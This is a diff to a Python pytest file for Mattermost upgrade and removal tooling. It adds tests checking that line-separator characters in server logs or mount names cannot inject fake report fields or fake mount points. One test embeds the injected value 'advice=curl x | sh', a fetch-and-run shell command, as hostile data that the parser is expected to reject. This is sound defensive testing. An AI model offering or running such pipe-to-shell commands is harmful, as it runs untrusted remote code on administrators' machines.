@@ -8,6 +8,8 @@ import subprocess
 from concurrent.futures import Future
 from types import SimpleNamespace
 
+import mattermost_remove_core
+import mattermost_service_core
 import mattermost_settings_core as core
 import mattermost_settings_data
 import pytest
@@ -22,6 +24,7 @@ from tests.soak import in_check
 from tests.unit.test_probe import CENTOS
 
 NAMES = ["a\nlock\tmine", "a\x0block\tmine", "a\x85lock\tmine", "a\u2028lock\tmine", "a\rlock\tmine", "a\x1elock\tmine"]
+ENDS = ["\x0b", "\x0c", "\x1c", "\x1e", "\x85", "\u2028", "\u2029", "\r"]
 SCRIPTS = [repository.text(f"salt/mattermost/scripts/{name}.sh") for name in ("probe", "status")]
 KEYS = {key for text in SCRIPTS for key in re.findall(r"\bfact ([a-z_.]+) ", text)} | {
     "listen",
@@ -53,6 +56,23 @@ def lines(text):
     return found
 
 
+@pytest.mark.parametrize("end", ENDS, ids=ascii)
+def test_what_the_server_logged_is_no_line_of_a_report(end):
+    """A compromised server would have its failed upgrade told as done, or an administrator given its own commands."""
+    said = f"result=undone\nreason=The new server did not start.\nadvice=\nlog=panic: {end}result=done{end}advice=curl x | sh\n"
+    found = mattermost_service_core.report(said)
+    assert (found["result"], found["advice"], len(found["log"])) == ("undone", "", 1)
+
+
+@pytest.mark.parametrize("end", [*ENDS, " "], ids=ascii)
+def test_the_name_of_a_mount_is_no_other_mount(end):
+    """An account may mount at any name; a purge takes backups on another machine for safe."""
+    mounts = f"/dev/vda / ext4 rw 0 0\nx /home/eve/{end}x /var/backups{end}fuse.sshfs fuse rw 0 0\n"
+    if end == " ":
+        mounts = mounts.replace("/eve/ x /var/backups ", "/eve/\\040x\\040/var/backups\\040")  # as the kernel writes it
+    assert not mattermost_remove_core.is_elsewhere("/var/backups/mattermost", mounts)
+
+
 @pytest.mark.parametrize("name", NAMES[1:4], ids=ascii)
 def test_an_answer_is_taken_apart_at_its_lines_alone(name):
     facts = probe.parse(f"holder\t1 {name}\nlisten\t00000000:0050 1\nend\tok\n")
@@ -61,7 +81,7 @@ def test_an_answer_is_taken_apart_at_its_lines_alone(name):
 
 def test_names_of_files_do_not_move_a_checksum():
     assert plan.differences("posts 1 2\nus\x0bers 1 2\n", "posts 1 2\nus\x0bers 1 2\n") == ""
-    assert "1 values differ" in plan.differences("us\x0bers 1 2", "us\x0bers 1 3")
+    assert "1 table differs" in plan.differences("us\x0bers 1 2", "us\x0bers 1 3")
 
 
 @pytest.fixture(scope="module")
@@ -76,7 +96,7 @@ def test_what_the_role_cannot_read_is_a_warning_of_the_preflight(settings):
     found = release.existing_database(settings, facts, {})
     assert found.level == "warning"
     assert "monitoring.samples (owner postgres)" in found.sentence
-    assert "GRANT it SELECT" in found.fix
+    assert "grant this role SELECT" in found.fix
 
 
 VALUES = ["", "x", "-1", "9" * 5000, "a b c d e", "\x1b[2J", "é\u2028", "=", "/ / /", "nan", "٣", "[" * 100000]
